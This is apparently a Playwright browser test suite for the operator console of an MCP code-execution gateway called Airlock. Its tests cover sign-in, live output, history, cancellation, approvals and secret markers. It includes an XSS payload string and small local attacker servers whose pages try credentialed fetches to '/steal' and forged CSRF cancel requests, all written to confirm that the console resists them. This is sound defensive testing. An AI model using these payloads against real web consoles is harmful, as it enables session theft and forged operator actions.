/**
 * The operator console in a real Chromium, against the real stack (with an access token set):
 * logging in, watching an execution live with its output and egress, finding it in the history,
 * cancelling one, the API page's missing-secret marker, skill diffs, and markup in anything
 * executed code controls staying inert text. Screenshots go to docs/ with AIRLOCK_SCREENSHOTS=1.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launchBrowser } from "../helpers/browser.ts";
import { callTool, connect, execute } from "../helpers/mcp.ts";
import { compose, REPO_ROOT, TEST_SECRETS, writeApiConfig } from "../helpers/stack.ts";

const stack = inject("stack");
/** What MCP clients hold; the console has its own token, the operator's alone. */
const token = stack.env.AIRLOCK_AUTH_TOKEN!;
const consoleToken = stack.env.AIRLOCK_CONSOLE_TOKEN!;
const base = new URL("/", stack.mcpUrl).toString();
const shots = process.env.AIRLOCK_SCREENSHOTS === "1";
/** Client names of this run, so the suite can run again on a stack kept for iterating. */
const RUN = Date.now().toString(36);
const HISTORY_CLIENT = `console-history-${RUN}`;
const RESTART_CLIENT = `console-restart-${RUN}`;

let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Set by any script that manages to run in a console page. */
const alerts: string[] = [];

/** The operator typed the token into the browser's prompt: it answers our origin's challenge only. */
const signedIn = () => ({ username: "operator", password: consoleToken, origin: new URL(base).origin });

async function screenshot(p: Page, name: string): Promise<void> {
  if (shots) await p.screenshot({ path: path.join(REPO_ROOT, "docs", `console-${name}.png`), fullPage: true });
}

/** The XSS payloads: each would set window.__xss or open a dialog if it ever ran. */
const MARKUP = `<img src=x onerror="window.__xss='img';alert(1)"><script>window.__xss='script'</script><svg onload="window.__xss='svg'"></svg>"'><b id=injected>bold</b>`;

async function expectInert(p: Page): Promise<void> {
  expect(await p.evaluate("window.__xss")).toBeUndefined();
  expect(await p.locator("#injected").count()).toBe(0);
  expect(await p.locator('img[src="x"]').count()).toBe(0);
  expect(alerts).toEqual([]);
}

beforeAll(async () => {
  expect(token && consoleToken, "the browser suite needs a stack with AIRLOCK_AUTH_TOKEN and AIRLOCK_CONSOLE_TOKEN").toBeTruthy();
  browser = await launchBrowser();
  context = await browser.newContext({ viewport: { width: 1280, height: 900 }, httpCredentials: signedIn() });
  page = await context.newPage();
  page.on("dialog", (d) => {
    alerts.push(d.message());
    void d.dismiss();
  });
});

afterAll(async () => {
  await browser?.close();
});

describe("console sign-in", () => {
  it("should ask for the token in the browser's own prompt and hand no credential to another port of this host", async () => {
    // Without the token: a Basic challenge, which brings up the browser's own prompt (headless
    // Chromium cannot show one and gives up, so the answer is read as the browser's context
    // receives it), and a page saying how to get in.
    const stranger = await browser.newContext();
    try {
      const res = await stranger.request.get(base + "history");
      expect(res.status()).toBe(401);
      expect(res.headers()["www-authenticate"]).toMatch(/^Basic realm="Airlock console"/);
      expect(await res.text()).toContain("AIRLOCK_AUTH_TOKEN");
    } finally {
      await stranger.close();
    }
    // Signed in, the operator visits a page another local user serves on another port of
    // 127.0.0.1 (the same *site*): it must receive nothing that opens the console.
    const seen: http.IncomingHttpHeaders[] = [];
    const target = new URL("/history", base).toString();
    const attacker = http.createServer((req, res) => {
      seen.push(req.headers);
      res.setHeader("content-type", "text/html");
      res.end(`<script>fetch("/steal", { credentials: "include" }); fetch(${JSON.stringify(target)}, { mode: "no-cors", credentials: "include" });</script>`);
    });
    await new Promise<void>((r) => attacker.listen(0, "127.0.0.1", r));
    const p = await context.newPage();
    try {
      expect((await p.goto(base + "history"))!.status()).toBe(200);
      await p.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
      await expect.poll(() => seen.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
      for (const headers of seen) {
        expect(headers.authorization).toBeUndefined();
        expect(headers.cookie).toBeUndefined();
      }
      expect(await context.cookies()).toEqual([]);
    } finally {
      await p.close();
      attacker.close();
    }
  });
});

describe("console token", () => {
  it("should keep the MCP clients' token out of the console", async () => {
    // An agent with a shell holds the MCP token: with it, the console neither opens nor decides.
    const agent = await browser.newContext();
    try {
      for (const authorization of [`Bearer ${token}`, `Basic ${Buffer.from(`agent:${token}`).toString("base64")}`]) {
        expect((await agent.request.get(base + "approvals", { headers: { authorization } })).status()).toBe(401);
        const decide = await agent.request.post(base + `console/approvals/${"a".repeat(32)}`, { headers: { authorization }, form: { decision: "approve" } });
        expect(decide.status()).toBe(401);
      }
    } finally {
      await agent.close();
    }
  });
});

describe("console live view and history", () => {
  it("should show a running execution, its output as it streams and its egress as it happens", async () => {
    await page.goto(base);
    const client = await connect(stack.mcpUrl, "console-live", token);
    let done = false;
    try {
      const call = execute(
        client,
        `for (let i = 0; i < 8; i++) {
          console.log("tick " + i);
          if (i === 2) console.log((await fetch("https://api.fake.test/small", { headers: { Authorization: "Bearer FAKE_API_TOKEN" } })).status);
          await new Promise((r) => setTimeout(r, 500));
        }
        console.error("done ticking");`,
        30,
      ).finally(() => (done = true));
      const entry = page.locator("article.execution");
      await expect.poll(() => entry.locator("pre.stdout").textContent(), { timeout: 15_000 }).toContain("tick 1");
      expect(done).toBe(false);
      await expect.poll(() => entry.locator("table.egress").textContent(), { timeout: 10_000 }).toContain("FAKE_API_TOKEN");
      expect(await entry.locator("table.egress").textContent()).toContain("api.fake.test");
      await expect.poll(() => entry.locator("pre.stdout").textContent(), { timeout: 10_000 }).toContain("tick 5");
      expect(done).toBe(false);
      expect(await entry.locator(".who").textContent()).toContain("console-live");
      await screenshot(page, "live");
      const result = await call;
      expect(result.outcome).toBe("success");
      // Once it ended it leaves the live list for "just ended".
      await expect.poll(() => page.locator("article.execution").count(), { timeout: 10_000 }).toBe(0);
      expect(await page.locator("table.history").textContent()).toContain("console-live");
    } finally {
      await client.close();
    }
  });

  it("should find an execution in the history by outcome and client, with its code, output, egress and audit lines", async () => {
    const client = await connect(stack.mcpUrl, HISTORY_CLIENT, token);
    let executionId: string | undefined;
    try {
      const ok = await execute(client, 'const r = await fetch("https://api.fake.test/small", { headers: { Authorization: "Bearer FAKE_API_TOKEN" } }); console.log("history-marker", r.status)');
      executionId = ok.executionId;
      await execute(client, 'throw new Error("history-failure")');
    } finally {
      await client.close();
    }
    await page.goto(`${base}history?client=${HISTORY_CLIENT}&outcome=success`);
    const rows = page.locator("table.history tbody tr");
    expect(await rows.count()).toBe(1);
    await page.goto(`${base}history?client=${HISTORY_CLIENT}&outcome=error`);
    expect(await rows.count()).toBe(1);
    await page.goto(`${base}history?client=${HISTORY_CLIENT}&api=fake`);
    expect(await rows.count()).toBe(1);
    await Promise.all([page.waitForURL(/\/history\/[0-9a-f]{32}$/), rows.first().locator("a").click()]);
    expect(await page.locator("pre.code").first().textContent()).toContain("history-marker");
    expect(await page.locator("pre.stdout").textContent()).toContain("history-marker 200");
    expect(await page.locator("table.egress").textContent()).toContain("FAKE_API_TOKEN");
    // Joined with the audit chain by the execution's id: its started and ended lines.
    const audit = await page.locator("pre.audit").textContent();
    expect(audit).toContain(`"execution":"${executionId}"`);
    expect(audit).toContain('"phase":"started"');
    expect(audit).toContain('"phase":"ended"');
    await screenshot(page, "execution");
  });

  it("should keep the history across a restart of the gateway", async () => {
    const client = await connect(stack.mcpUrl, RESTART_CLIENT, token);
    try {
      await execute(client, 'console.log("before restart")');
    } finally {
      await client.close();
    }
    await compose(stack, ["restart", "server"]);
    await expect.poll(async () => (await fetch(new URL("/health", base)).catch(() => undefined))?.status, { timeout: 60_000, interval: 500 }).toBe(200);
    await page.goto(`${base}history?client=${RESTART_CLIENT}`);
    expect(await page.locator("table.history tbody tr").count()).toBe(1);
  });
});

describe("console actions", () => {
  /** Starts a long execution and returns its call and its console id once it shows. */
  async function longRun(name: string) {
    const client = await connect(stack.mcpUrl, name, token);
    const call = execute(client, 'console.log("waiting"); await new Promise((r) => setTimeout(r, 50_000))', 60);
    await page.goto(base);
    const entry = page.locator("article.execution", { hasText: name });
    await expect.poll(() => entry.locator(".badge").first().textContent(), { timeout: 15_000 }).toBe("running");
    const id = (await entry.getAttribute("data-id"))!;
    return { client, call, entry, id };
  }

  it("should cancel a running execution from the console and tell the model an operator did", async () => {
    const { client, call, entry } = await longRun("console-cancel");
    try {
      await entry.locator("button.cancel").click();
      const result = await call;
      expect(result.outcome).toBe("cancelled");
      expect(result.message).toContain("operator");
      await page.goto(`${base}history?client=console-cancel`);
      expect(await page.locator("table.history tbody").textContent()).toContain("by operator");
    } finally {
      await client.close();
    }
  });

  it("should refuse a cancel sent from another page on this machine, which cannot know the CSRF token", async () => {
    const { client, call, id } = await longRun("console-csrf");
    const target = new URL(`/console/executions/${id}/cancel`, base).toString();
    // Another local origin (another port of 127.0.0.1: the same site, and the browser may attach
    // what it holds for the console); its page posts a form and a no-cors fetch at the cancel action.
    const attacker = http.createServer((_req, res) => {
      res.setHeader("content-type", "text/html");
      res.end(`<form method="post" action="${target}"><input name="csrf" value="guessed"></form>
<script>fetch(${JSON.stringify(target)}, { method: "POST", mode: "no-cors", credentials: "include" }); setTimeout(() => document.forms[0].submit(), 200);</script>`);
    });
    await new Promise<void>((r) => attacker.listen(0, "127.0.0.1", r));
    const evil = await context.newPage();
    try {
      const answers: number[] = [];
      evil.on("response", (r) => r.url() === target && answers.push(r.status()));
      await evil.goto(`http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`);
      await expect.poll(() => answers.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(1);
      await evil.waitForTimeout(1000);
      expect(answers.every((s) => s === 403)).toBe(true);
      // Still running: nothing reached the execution.
      await page.goto(base);
      expect(await page.locator(`article.execution[data-id="${id}"]`).count()).toBe(1);
    } finally {
      await evil.close();
      attacker.close();
      await page.locator(`article.execution[data-id="${id}"] button.cancel`).click();
      expect((await call).outcome).toBe("cancelled");
      await client.close();
    }
  });
});

describe("console pages show untrusted text as text", () => {
  it("should keep markup in code, output and the client's name inert, live and in the history", async () => {
    const client = await connect(stack.mcpUrl, `xss-client ${MARKUP}`, token);
    try {
      await page.goto(base);
      const call = execute(client, `const m = ${JSON.stringify(MARKUP)}; console.log(m); console.error(m); await new Promise((r) => setTimeout(r, 3000)); // ${MARKUP}`, 30);
      const entry = page.locator("article.execution", { hasText: "xss-client" });
      await expect.poll(() => entry.locator("pre.stdout").textContent(), { timeout: 15_000 }).toContain("window.__xss='script'");
      await entry.locator("summary").click();
      await page.waitForTimeout(1200); // a few live updates swap the fragment in
      await expectInert(page);
      expect(await entry.locator(".who").textContent()).toContain("<img src=x");
      await call;
      await page.goto(`${base}history`);
      await expectInert(page);
      await page.locator("table.history tbody tr", { hasText: "xss-client" }).first().locator("a").click();
      await page.waitForURL(/\/history\/[0-9a-f]{32}$/);
      expect(await page.locator("pre.stdout").textContent()).toContain(MARKUP);
      expect(await page.locator("pre.stderr").textContent()).toContain(MARKUP);
      await expectInert(page);
    } finally {
      await client.close();
    }
  });

  it("should keep markup in a skill's description and code inert", async () => {
    // Its own name each run, so the suite can run again on a stack kept for iterating.
    const skillName = `console_demo_${Date.now().toString(36)}`;
    const client = await connect(stack.mcpUrl, "console-skills", token);
    try {
      const saved = await callTool(client, "save_skill", {
        name: skillName,
        description: `Totals a list ${MARKUP}`,
        code: 'export default async function (args: { n: number }) {\n  const total = args.n * 2;\n  return total;\n}\n',
      });
      expect(saved.isError).not.toBe(true);
      const updated = await callTool(client, "update_skill", { name: skillName, edits: [{ search: "args.n * 2", replace: "args.n * 3 // <script>window.__xss='diff'</script>" }] });
      expect(updated.isError).not.toBe(true);
    } finally {
      await client.close();
    }
    await page.goto(`${base}skills`);
    expect(await page.locator("table.skills").textContent()).toContain(skillName);
    await expectInert(page);
    await page.goto(`${base}skills/${skillName}?from=1&to=2`);
    expect(await page.locator("pre.diff .del").allTextContents()).toEqual(["-  const total = args.n * 2;"]);
    expect((await page.locator("pre.diff .add").allTextContents())[0]).toContain("args.n * 3");
    expect(await page.locator("table.versions").textContent()).toContain("console-skills");
    expect(await page.locator("table.versions tbody tr").allTextContents()).toEqual([expect.stringMatching(/^v2 \(current\)/), expect.stringMatching(/^v1/)]);
    await expectInert(page);
    await screenshot(page, "skill-diff");
  });
});

describe("console approvals", () => {
  const HELD = {
    description: "Refunds need a person",
    domains: ["held.fake.test"],
    credentials: { HELD_API_TOKEN: { headers: ["Authorization"], value: { env: "FAKE_API_SECRET" } } },
    approvals: [{ methods: ["POST"], paths: ["/v1/refunds*"] }],
  };

  it.each([
    ["approve", "button.approve", 200],
    ["decline", "button.decline", 403],
  ])("should let an operator %s a held request of a client that cannot be asked", async (_what, button, status) => {
    await writeApiConfig(stack.apisDir, "held", HELD);
    const client = await connect(stack.mcpUrl, `approvals-${RUN}`, token);
    try {
      // Until the proxy has the config, the host is not allowlisted (403 from the proxy itself).
      await expect
        .poll(async () => (await execute(client, 'console.log((await fetch("https://held.fake.test/small")).status)')).stdout.trim(), { timeout: 20_000, interval: 500 })
        .toBe("200");
      const call = execute(client, `const r = await fetch("https://held.fake.test/v1/refunds", { method: "POST", headers: { Authorization: "Bearer HELD_API_TOKEN" }, body: JSON.stringify({ charge: "ch_7", amount: 990 }) }); console.log(r.status)`, 60);
      await page.goto(base);
      await expect.poll(() => page.locator("p.waiting").count(), { timeout: 15_000 }).toBe(1);
      await page.locator("p.waiting a").click();
      await page.waitForURL(`${base}approvals`);
      const held = page.locator("article.approval");
      // The buttons arrive disabled and wake a moment later: no click meant for another page lands on them.
      const served = await (await context.request.get(`${base}approvals`)).text();
      expect(served).toMatch(/<button [^>]*class="approve" disabled data-wake>/);
      await expect.poll(() => held.locator(button).isEnabled(), { timeout: 5000 }).toBe(true);
      expect(await held.locator("h2").textContent()).toContain("POST https://held.fake.test/v1/refunds");
      expect(await held.textContent()).toContain("HELD_API_TOKEN");
      expect(await held.locator("pre").textContent()).toContain('"amount":990');
      await screenshot(page, "approvals");
      await Promise.all([page.waitForURL(`${base}approvals`), held.locator(button).click()]);
      expect(await page.locator("#no-approvals").count()).toBe(1);
      const result = await call;
      expect(result.stdout.trim()).toBe(String(status));
      expect(result.egress.requests.at(-1)!.approval).toMatchObject({ by: "console (operator)" });
      expect(result.approvalWaitMs).toBeGreaterThan(0);
    } finally {
      await client.close();
    }
  });
});

describe("console APIs and health", () => {
  it("should mark a credential whose secret the proxy does not have", async () => {
    await writeApiConfig(stack.apisDir, "nosecret", {
      description: "An API whose secret was never set",
      domains: ["api.nosecret.test"],
      credentials: { NOSECRET_TOKEN: { headers: ["Authorization"], value: { env: "NOSECRET_NEVER_SET" } } },
    });
    await expect
      .poll(async () => {
        await page.goto(`${base}apis`);
        return page.locator('[data-missing-secret="NOSECRET_TOKEN"]').count();
      }, { timeout: 15_000, interval: 1000 })
      .toBe(1);
    // The configured secrets of the fake API are there, and say so.
    const fake = page.locator('article.api[data-api="fake"]');
    expect(await fake.locator(".badge.ok").count()).toBeGreaterThan(0);
    expect(await fake.locator("[data-missing-secret]").count()).toBe(0);
    expect(await page.locator('article.api[data-api="nosecret"]').textContent()).toContain("not loaded by the proxy");
    // Names and sources only: no secret value can be on the page.
    const content = await page.content();
    for (const value of Object.values(TEST_SECRETS)) expect(content).not.toContain(value);
    await screenshot(page, "apis");
  });

  it("should show each component's state", async () => {
    await page.goto(`${base}status`);
    expect(await page.locator("#overall").textContent()).toBe("ok");
    for (const component of ["server", "sandbox", "proxy", "audit", "history"]) {
      expect(await page.locator(`tr[data-component="${component}"] .badge`).getAttribute("class"), component).toContain("ok");
    }
    await screenshot(page, "health");
  });
});
